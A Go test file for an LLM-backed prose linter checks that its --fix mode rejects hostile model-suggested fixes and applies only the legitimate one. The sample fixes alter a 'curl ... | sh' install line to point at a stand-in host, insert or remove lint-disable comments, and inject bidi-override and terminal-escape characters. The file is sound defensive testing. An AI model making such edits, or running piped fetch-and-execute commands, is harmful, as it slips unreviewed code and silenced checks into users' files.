package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vectorlint/vectorlint/llm/llmtest"
)

// What a model may change (docs/security.md): the attacks of a hostile or confused model
// reply, through the command, against the fake model server. Every attack's fix text holds
// "ZZ", so no output may hold it.

// unsafeFixDoc numbers its lines for the replies below.
const unsafeFixDoc = "---\ntitle: Guide\n---\n" + // 1–3
	"# Deploy\n\n" + // 4–5
	"In order to deploy, read this.\n\n" + // 6–7
	"```sh\ncurl https://acme.example/install | sh\n```\n\n" + // 8–11
	"After the block, in order to verify, run `acme check` now.\n" + // 12
	"Due to the fact that it is fast, wait.\n" + // 13
	"We act with the ability to win.\n" + // 14
	"It has the capacity to fly.\n" + // 15
	"It is, in fact, a test.\n" + // 16
	"<!-- vectorlint-disable -->\n" + // 17
	"Silenced here, in order to test.\n" + // 18
	"<!-- vectorlint-enable -->\n" + // 19
	"Last line.\n" // 20

const unsafeFixMDX = "import X from './x'\n\nIn order to start, read this.\nIt has the ability to fly.\n" +
	"{/* vectorlint-disable */}\nSilenced.\n{/* vectorlint-enable */}\n"

// unsafeFixServer answers for unsafeFixDoc with a legitimate fix in prose and one fix per
// attack, and for unsafeFixMDX with the MDX forms of the control comment attacks.
func unsafeFixServer(t *testing.T) *llmtest.Server {
	srv := llmtest.Start(t)
	srv.On(llmtest.UserContains("Deploy"), llmtest.JSON(map[string]any{"violations": []any{
		map[string]any{"quoted_text": "In order to deploy", "line": 6, "message": "Legitimate.", "fix": "To deploy"},
		map[string]any{"quoted_text": "read this.\n\n```sh\ncurl https://acme.example/install | sh\n```\n\nAfter the block", "line": 6,
			"message": "Across the code block.", "fix": "read this.\n\n```sh\ncurl https://ZZ.example/x | sh\n```\n\nAfter the block"},
		map[string]any{"quoted_text": "run `acme check` now", "line": 12, "message": "Across a code span.", "fix": "run `acme ZZ` now"},
		map[string]any{"quoted_text": "Due to the fact that", "line": 13, "message": "Inserts a disable.", "fix": "Because ZZ <!-- vectorlint-disable -->"},
		map[string]any{"quoted_text": "with the ability to", "line": 14, "message": "Bidi override.", "fix": "\u202eZZ to"},
		map[string]any{"quoted_text": "has the capacity to", "line": 15, "message": "Escape.", "fix": "can ZZ\x1b[2J"},
		map[string]any{"quoted_text": "in fact, a test.\n<!-- vectorlint-disable -->", "line": 16, "message": "Removes a disable.", "fix": "in fact, a ZZ test."},
		map[string]any{"quoted_text": "After the block", "line": 12, "message": "Opens a fence.", "fix": "```\nZZ After the block"},
	}}))
	srv.On(llmtest.UserContains("ability to fly"), llmtest.JSON(map[string]any{"violations": []any{
		map[string]any{"quoted_text": "In order to start", "line": 3, "message": "Inserts an MDX disable.", "fix": "To ZZ start {/* vectorlint-disable */}"},
		map[string]any{"quoted_text": "the ability to fly.\n{/* vectorlint-disable */}", "line": 4, "message": "Removes an MDX disable.", "fix": "can ZZ fly."},
	}}))
	return srv
}

// unsafeFixProject is a project linting docs/a.md and docs/b.mdx with an error-severity rule.
func unsafeFixProject(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	writeTestTree(t, dir, map[string]string{
		"vectorlint.ini": "RulesPath = rules\n[**/*.{md,mdx}]\nRunRules = Acme\n",
		"rules/Acme/wordiness.md": "---\nid: Wordiness\nname: Wordiness\nseverity: error\n---\n" +
			"Flag wordy phrases; give the shorter one as the fix.\n",
		"docs/a.md":  unsafeFixDoc,
		"docs/b.mdx": unsafeFixMDX,
	})
	return dir
}

// unsafeFixWhy is what --verbose says about each attack: file, line, column, rule, reason.
var unsafeFixWhy = []string{
	"vectorlint: warning: docs/a.md:6:21: Acme.Wordiness: the model's fix is not offered: it reaches into a code block on line 8, which the model was not sent\n",
	"vectorlint: warning: docs/a.md:12:38: Acme.Wordiness: the model's fix is not offered: it reaches into a code span on line 12, which the model was not sent\n",
	"vectorlint: warning: docs/a.md:13:1: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable\n",
	"vectorlint: warning: docs/a.md:14:8: Acme.Wordiness: the model's fix is not offered: its text holds U+202E, a control, bidi-override or invisible character\n",
	"vectorlint: warning: docs/a.md:15:4: Acme.Wordiness: the model's fix is not offered: its text holds U+001B, a control, bidi-override or invisible character\n",
	"vectorlint: warning: docs/a.md:16:8: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 17\n",
	"vectorlint: warning: docs/a.md:12:1: Acme.Wordiness: the model's fix is not offered: it turns the control comment vectorlint-disable on line 17 into a code example\n",
	"vectorlint: warning: docs/b.mdx:3:1: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable\n",
	"vectorlint: warning: docs/b.mdx:4:8: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 5\n",
}

// TestFixRefusesUnsafeModelFixes: --fix applies the legitimate fix byte for byte and leaves
// everything else of both files as it was: every attack's finding is still reported (exit 1),
// and --verbose says why its fix was not offered; --fix=diff shows only the legitimate change;
// --fix on standard input prints the text with only that change.
func TestFixRefusesUnsafeModelFixes(t *testing.T) {
	t.Parallel()
	srv := unsafeFixServer(t)
	dir := unsafeFixProject(t)
	cache := t.TempDir()
	r := runVectorlint(t, dir, fakeEnv(srv), "", "--fix", "--verbose", "--cache-dir", cache, "docs")
	wantA := strings.Replace(unsafeFixDoc, "In order to deploy", "To deploy", 1)
	if got := readFile(t, filepath.Join(dir, "docs", "a.md")); got != wantA {
		t.Errorf("docs/a.md:\n%q\nwant\n%q", got, wantA)
	}
	if got := readFile(t, filepath.Join(dir, "docs", "b.mdx")); got != unsafeFixMDX {
		t.Errorf("docs/b.mdx was changed:\n%q", got)
	}
	if r.code != exitFindings {
		t.Errorf("exit %d, want %d (the findings stay)\n%s", r.code, exitFindings, r.stderr)
	}
	for _, why := range unsafeFixWhy {
		if !strings.Contains(r.stderr, why) {
			t.Errorf("--verbose does not say %q:\n%s", why, r.stderr)
		}
	}
	for _, want := range []string{"vectorlint: docs/a.md: 1 fix applied\n", "vectorlint: 1 fix applied in 1 file\n"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, r.stderr)
		}
	}
	for _, msg := range []string{"Across the code block.", "Across a code span.", "Inserts a disable.", "Bidi override.", "Escape.",
		"Removes a disable.", "Opens a fence.", "Inserts an MDX disable.", "Removes an MDX disable."} {
		if !strings.Contains(r.stdout, "  error  "+msg) {
			t.Errorf("the finding %q is not reported:\n%s", msg, r.stdout)
		}
	}
	if strings.Contains(r.stdout+r.stderr, "ZZ") {
		t.Errorf("an unsafe fix's text is in the output:\n%s\n%s", r.stdout, r.stderr)
	}

	// The diff and the fixed standard input: the legitimate change alone.
	fresh := unsafeFixProject(t)
	d := runVectorlint(t, fresh, fakeEnv(srv), "", "--fix=diff", "--cache-dir", cache, "docs")
	d.expect(t, exitFindings, "--- a/docs/a.md\n+++ b/docs/a.md\n@@ -3,7 +3,7 @@\n ---\n # Deploy\n \n"+
		"-In order to deploy, read this.\n+To deploy, read this.\n \n ```sh\n curl https://acme.example/install | sh\n",
		"vectorlint: docs/a.md: 1 fix to apply\nvectorlint: 1 fix to apply in 1 file (nothing written)\n")
	s := runVectorlint(t, fresh, fakeEnv(srv), unsafeFixDoc, "--fix", "--cache-dir", cache, "--stdin-filename", "docs/a.md")
	s.expect(t, exitFindings, wantA, "vectorlint: docs/a.md: 1 fix applied\nvectorlint: 1 fix applied in 1 file\n")
	for _, name := range []string{"a.md", "b.mdx"} {
		want := map[string]string{"a.md": unsafeFixDoc, "b.mdx": unsafeFixMDX}[name]
		if got := readFile(t, filepath.Join(fresh, "docs", name)); got != want {
			t.Errorf("%s was written by --fix=diff or --fix on standard input: %q", name, got)
		}
	}
}

// TestOutputsCarryNoUnsafeFix: no output format advertises an unsafe fix — the finding is there
// without "fix" and "edits" in json, without suggestions in rdjson, fixes in sarif, an action in
// Vale's JSON or a fix line in junit — while the legitimate fix is carried by each.
func TestOutputsCarryNoUnsafeFix(t *testing.T) {
	t.Parallel()
	srv := unsafeFixServer(t)
	dir := unsafeFixProject(t)
	cache := t.TempDir()
	for _, tt := range []struct {
		format, fixKey string
	}{
		{"json", `"edits"`}, {"rdjson", `"suggestions"`}, {"rdjsonl", `"suggestions"`}, {"sarif", `"fixes"`},
		{"vale-json", `"Name": "replace"`}, {"junit", "  fix: "},
	} {
		t.Run(tt.format, func(t *testing.T) {
			r := runVectorlint(t, dir, fakeEnv(srv), "", "--output", tt.format, "--cache-dir", cache, "docs")
			if r.code != exitFindings {
				t.Fatalf("exit %d\n%s", r.code, r.stderr)
			}
			if n := strings.Count(r.stdout, tt.fixKey); n != 1 {
				t.Errorf("%d fixes (%s), want 1 (the legitimate one):\n%s", n, tt.fixKey, r.stdout)
			}
			if !strings.Contains(r.stdout, "To deploy") {
				t.Errorf("the legitimate fix is missing:\n%s", r.stdout)
			}
			if strings.Contains(r.stdout, "ZZ") {
				t.Errorf("an unsafe fix's text is in the output:\n%s", r.stdout)
			}
			if tt.format == "json" {
				res := decodeJSON(t, r.stdout)
				n := 0
				for _, f := range res.Files {
					n += len(f.Findings)
				}
				if n != 10 {
					t.Errorf("%d findings, want 10 (every attack's is reported)", n)
				}
			}
		})
	}
	if _, err := os.Stat(filepath.Join(dir, "docs", "a.md")); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, filepath.Join(dir, "docs", "a.md")); got != unsafeFixDoc {
		t.Errorf("docs/a.md was written: %q", got)
	}
}
